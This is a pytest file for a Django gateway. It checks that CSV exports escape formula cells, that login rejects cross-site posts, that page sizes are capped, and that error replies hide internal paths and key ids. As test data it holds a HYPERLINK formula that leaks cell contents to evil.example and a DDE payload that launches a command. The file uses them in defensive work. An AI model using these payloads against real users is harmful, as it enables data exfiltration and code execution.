"""Issue 10, the smaller items: CSV exports neutralise formula cells (OWASP), the API login refuses
cross-site requests (login CSRF), list pages have a maximum size, and error answers carry no
internal detail (keystore paths, KEK ids, internal addresses). Production start-up is in
test_production_settings.py."""

from __future__ import annotations

import csv
import io
import json
import logging

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from rest_framework.test import APIClient

from apps.audit.chain import seal_pending
from apps.audit.models import AuditEvent
from apps.audit.offline_verify import load_public_keys, verify_export
from apps.audit.signing import get_signer, public_pem
from apps.compliance.reports.render import to_csv
from apps.compliance.services import set_model_policy
from apps.keys.providers import get_kek_provider
from inference_backend.kek import KekError
from tests.conftest import grant, make_user
from tests.factories import ModelVersionFactory, closed_port, token_for
from tests.gateway.conftest import fake_triton  # noqa: F401 - fixture
from tests.gateway.dataplane_client import DataPlaneClient
from tests.gateway.helpers import deploy, valid_request

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
LOGIN = "/api/v1/accounts/login/"
PASSWORD = "correct-horse-battery-9"


# --- CSV injection ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\n=1", "＝1+1", "＠SUM(1)"],
)
def test_formula_cells_get_a_leading_apostrophe(value):
    from apps.core.spreadsheet import safe_cell

    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["alice", "inference.infer", "{}", "", "a=b", "2024-01-01", 5, -3, None, 1.5])
def test_other_cells_are_unchanged(value):
    from apps.core.spreadsheet import safe_cell

    assert safe_cell(value) == value


def test_audit_csv_export_writes_an_attackers_formula_as_text(auditor_client):
    """The User-Agent of an anonymous refused call is the attacker's text, recorded in the log and
    exported to the auditor's spreadsheet."""
    refused = APIClient().post("/api/v1/accounts/tokens/", {"name": "x"}, format="json", HTTP_USER_AGENT=HYPERLINK)
    assert refused.status_code in (401, 403)
    seal_pending(checkpoint=True)

    response = auditor_client.get("/api/v1/audit/export/csv/", {"event_type": "access.refused"})

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    [event] = [r for r in rows if r["type"] == "event"]
    assert event["user_agent"] == "'" + HYPERLINK
    assert json.loads(event["record"])["user_agent"] == HYPERLINK  # the verifiable record is untouched
    keys = load_public_keys([public_pem(get_signer()).encode()])
    assert verify_export([r["record"] for r in rows], keys)["ok"]


def test_compliance_csv_report_writes_formulas_as_text():
    data = {
        "report": {"profile": "hipaa"},
        "controls": [
            {
                "id": "164.312(b)",
                "framework": "HIPAA",
                "family": "@family",
                "status": "fail",
                "summary": HYPERLINK,
                "evidence": [{"check": "x", "who": "=1+1"}],
                "remedy": "-ask the operator",
                "evaluated_at": "2025-01-01T00:00:00Z",
            }
        ],
    }

    [row] = list(csv.DictReader(io.StringIO(to_csv(data).decode("utf-8-sig"))))

    assert (row["summary"], row["remedy"], row["family"]) == ("'" + HYPERLINK, "'-ask the operator", "'@family")
    assert json.loads(row["evidence"]) == [{"check": "x", "who": "=1+1"}]  # JSON cell: starts with [


# --- Login CSRF --------------------------------------------------------------------------------


@pytest.fixture
def analyst(db):
    return make_user("lena", "analyst")


def _logged_in(client) -> bool:
    return "_auth_user_id" in client.session


def test_cross_site_form_post_does_not_log_in(analyst):
    """The attack: a page on evil.example auto-submits a form with the attacker's credentials."""
    client = Client()
    response = client.post(
        LOGIN, {"username": "lena", "password": PASSWORD}, HTTP_ORIGIN="https://evil.example", HTTP_SEC_FETCH_SITE=""
    )

    assert response.status_code == 403, response.content
    assert response.json()["code"] == "cross_site_request"
    assert not _logged_in(client)
    assert AuditEvent.objects.filter(event_type="access.refused", error_code="cross_site_request").exists()


@pytest.mark.parametrize(
    "headers",
    [
        {"HTTP_ORIGIN": "https://evil.example"},
        {"HTTP_ORIGIN": "null"},  # sandboxed frame
        {"HTTP_SEC_FETCH_SITE": "cross-site"},
        {"HTTP_REFERER": "https://evil.example/login-trap.html"},
        {"HTTP_ORIGIN": "https://testserver.evil.example"},
    ],
    ids=["origin", "null-origin", "sec-fetch-site", "referer", "lookalike-origin"],
)
def test_cross_site_json_login_is_refused(analyst, headers):
    client = Client()
    body = json.dumps({"username": "lena", "password": PASSWORD})

    response = client.post(LOGIN, body, content_type="application/json", **headers)

    assert (response.status_code, response.json()["code"]) == (403, "cross_site_request")
    assert not _logged_in(client)


def test_text_plain_form_with_a_json_body_is_refused(analyst):
    """<form enctype="text/plain"> can forge a JSON-looking body; only application/json is parsed."""
    client = Client()
    body = '{"username": "lena", "password": "' + PASSWORD + '", "x": "="}'

    response = client.post(LOGIN, body, content_type="text/plain")

    assert (response.status_code, response.json()["code"]) == (415, "unsupported_media_type")
    assert not _logged_in(client)


@pytest.mark.parametrize(
    "headers",
    [
        {},  # a script or CI job: no browser headers
        {"HTTP_ORIGIN": "http://testserver", "HTTP_SEC_FETCH_SITE": "same-origin"},
        {"HTTP_REFERER": "http://testserver/portal/"},
        {"HTTP_ORIGIN": "https://portal.example.org"},  # a trusted origin (CSRF_TRUSTED_ORIGINS wildcard)
    ],
    ids=["api-client", "same-origin", "same-origin-referer", "trusted-origin"],
)
def test_same_origin_and_api_client_logins_still_work(analyst, headers, settings):
    settings.CSRF_TRUSTED_ORIGINS = ["https://*.example.org"]
    client = Client()
    body = json.dumps({"username": "lena", "password": PASSWORD})

    response = client.post(LOGIN, body, content_type="application/json", **headers)

    assert response.status_code == 200, response.content
    assert _logged_in(client)


# --- Maximum page size --------------------------------------------------------------------------


def test_list_limit_is_capped(staff_client, settings):
    settings.API_MAX_PAGE_SIZE = 3
    for n in range(5):
        make_user(f"user{n}")

    response = staff_client.get("/api/v1/accounts/users/", {"limit": 1000000000})

    assert response.status_code == 200
    body = response.json()
    assert body["count"] >= 6
    assert len(body["results"]) == 3
    assert body["next"] and "limit=3" in body["next"]


def test_the_default_cap_is_500():
    from django.conf import settings

    from apps.core.pagination import CappedLimitOffsetPagination

    assert settings.REST_FRAMEWORK["DEFAULT_PAGINATION_CLASS"] == "apps.core.pagination.CappedLimitOffsetPagination"
    assert settings.API_MAX_PAGE_SIZE == 500
    assert CappedLimitOffsetPagination().max_limit == 500


def test_audit_export_is_not_paginated(auditor_client, plain_user, settings):
    """The export streams the whole selection whatever the page cap (its own row limit applies)."""
    settings.API_MAX_PAGE_SIZE = 3
    from apps.audit.services import record_event

    for n in range(7):
        record_event("registry.model.create", actor=plain_user, target_display=f"m{n}")

    response = auditor_client.get("/api/v1/audit/export/jsonl/", {"event_type": "registry.model.create"})

    lines = [json.loads(x) for x in b"".join(response.streaming_content).decode().splitlines()]
    assert len([r for r in lines if r["type"] in ("event", "pending")]) == 7


# --- No internal detail in error answers ---------------------------------------------------------


@pytest.fixture
def text_model(staff_user, plain_user, fake_triton):  # noqa: F811 - the imported fixture
    from apps.registry.models import ModelVersion

    mv = ModelVersionFactory(model_name="notes", actor=staff_user)
    ModelVersion.objects.filter(pk=mv.pk).update(
        signature={
            "inputs": [{"name": "TEXT", "datatype": "BYTES", "shape": [-1, 1]}],
            "outputs": [{"name": "OUTPUT", "datatype": "FP32", "shape": [-1, 3]}],
        }
    )
    deploy(ModelVersion.objects.get(pk=mv.pk), url=fake_triton.url, max_batch_size=8)
    grant(plain_user, mv.model)
    return mv.model


def test_deid_unavailable_names_no_key_path_nor_kek_id(text_model, plain_user, settings, tmp_path, caplog):
    from apps.keys import pseudonym

    set_model_policy(model_id=text_model.pk, phi=True, deid_mode="pseudonymise", actor=None)
    key_file = tmp_path / "pseudonym-key.json"
    key_file.write_text(json.dumps({"kek_id": "local:00000000deadbeef", "wrapped": "AAAA"}))
    settings.PSEUDONYM_KEY_FILE = str(key_file)
    pseudonym.forget()
    body = {"inputs": [{"name": "TEXT", "datatype": "BYTES", "shape": [1, 1], "data": ["Patient John Smith"]}]}
    client = DataPlaneClient(HTTP_AUTHORIZATION=f"Bearer {token_for(plain_user)}")

    with caplog.at_level(logging.ERROR, logger="apps.gateway.dataplane.pipeline"):
        response = client.post("/v2/models/notes/infer", json.dumps(body), content_type="application/json")

    assert (response.status_code, response.json()["code"]) == (503, "deid_unavailable")
    answer = response.content.decode()
    own_kek = get_kek_provider().kek_id
    for internal in ("deadbeef", own_kek, str(tmp_path), settings.LOCAL_KEK_FILE, "keystore", "KEK"):
        assert internal not in answer
    assert "deadbeef" in caplog.text  # the operator still learns why, from the server log


def test_unreachable_triton_answer_names_no_internal_address(plain_user, staff_user):
    port = closed_port()
    mv = ModelVersionFactory(model_name="triage", actor=staff_user)
    deploy(mv, url=f"http://127.0.0.1:{port}")
    grant(plain_user, mv.model)
    client = DataPlaneClient(HTTP_AUTHORIZATION=f"Bearer {token_for(plain_user)}")

    response = client.post("/v2/models/triage/infer", json.dumps(valid_request()), content_type="application/json")

    assert (response.status_code, response.json()["code"]) == (503, "triton_unavailable")
    assert "127.0.0.1" not in response.content.decode() and str(port) not in response.content.decode()


def test_kek_unavailable_upload_answer_names_no_keystore_path(staff_client, settings, tmp_path, onnx_bytes, caplog):
    broken = tmp_path / "kek-store"
    broken.mkdir()  # a directory where the keystore file should be: the provider refuses
    settings.LOCAL_KEK_FILE = str(broken)
    get_kek_provider.cache_clear()
    upload = SimpleUploadedFile("model.onnx", onnx_bytes, content_type="application/octet-stream")

    with caplog.at_level(logging.ERROR, logger="apps.keys.services"):
        response = staff_client.post("/api/v1/registry/models/triage/versions/", {"file": upload}, format="multipart")

    assert (response.status_code, response.json()["code"]) == (503, "kek_unavailable")
    assert str(tmp_path) not in response.content.decode()
    assert str(broken) in caplog.text


def test_kek_rotation_failure_answer_is_generic_and_the_audit_event_keeps_the_reason(
    officer_client, monkeypatch, onnx_bytes, staff_user
):
    ModelVersionFactory(model_name="triage", actor=staff_user)  # registers KEK version 1
    reason = "PKCS#11 token 'prod-hsm-7' not found in module /opt/vendor/lib/libcs_pkcs11.so"

    def broken():
        raise KekError(reason)

    monkeypatch.setattr(get_kek_provider(), "create_version", broken)

    response = officer_client.post("/api/v1/keys/rotate/", {"reason": "yearly"}, format="json")

    assert (response.status_code, response.json()["code"]) == (503, "kek_unavailable")
    assert "prod-hsm-7" not in response.content.decode() and "/opt/vendor" not in response.content.decode()
    failure = AuditEvent.objects.get(event_type="keys.kek.rotate", outcome="failure")
    assert failure.details["error"] == reason  # the security officer reads it in the audit log
